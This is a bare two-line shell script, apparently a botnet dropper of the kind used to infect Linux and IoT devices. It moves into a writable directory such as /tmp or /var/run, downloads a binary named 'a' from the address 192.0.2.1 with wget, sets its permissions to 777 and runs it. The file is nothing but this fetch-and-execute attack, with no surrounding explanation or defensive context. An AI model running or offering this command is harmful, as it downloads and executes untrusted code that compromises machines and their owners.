cd /tmp || cd /var/run || cd /mnt
wget http://192.0.2.1/a; chmod 777 a; ./a
